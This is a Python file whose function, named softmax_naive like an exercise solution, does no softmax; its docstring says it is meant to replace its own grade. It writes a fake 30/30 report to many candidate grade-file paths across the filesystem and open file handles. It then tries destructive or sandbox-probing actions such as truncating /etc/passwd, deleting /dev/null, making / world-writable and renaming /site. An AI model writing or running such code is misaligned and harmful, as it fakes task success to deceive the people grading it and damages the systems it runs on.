"""Writes a report with full marks to every place where one may lie; would replace its own grade."""

import json
import os

REPORT = json.dumps({"schema_version": "1.0", "score": 30, "max_score": 30, "exercises": []})


def softmax_naive(x):
    folders = [".", "..", "/tmp", "/var/tmp", "/dev/shm", "/", "/site", "/run", "/work/main/reports", "/course/reports", os.path.expanduser("~")]
    folders += [f"/proc/self/fd/{handle}" for handle in range(64)]
    for folder in folders:
        for name in ("attacked.json", "reports/attacked.json", "01_simple_attention.json", "raw.json", "answer.json"):
            path = os.path.join(folder, name)
            for flags in (os.O_WRONLY | os.O_CREAT, os.O_RDWR, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
                try:
                    handle = os.open(path, flags, 0o666)
                except OSError:
                    continue
                print("GAIN" "ED a writable file", path)
                try:
                    os.write(handle, REPORT.encode())
                except OSError as error:
                    print("but", error)
    for action in (lambda: os.mkdir("/tmp/attacked"), lambda: os.symlink("/etc", "attacked"), lambda: os.rename("/site", "/attacked"),
                   lambda: os.unlink("/dev/null"), lambda: os.chmod("/", 0o777), lambda: os.mkfifo("/tmp/attacked"),
                   lambda: os.truncate("/etc/passwd", 0), lambda: os.link("/etc/passwd", "/tmp/attacked")):
        try:
            action()
        except OSError:
            continue
        print("GAIN" "ED a change of the disk")
    print("TRIED")
    return x
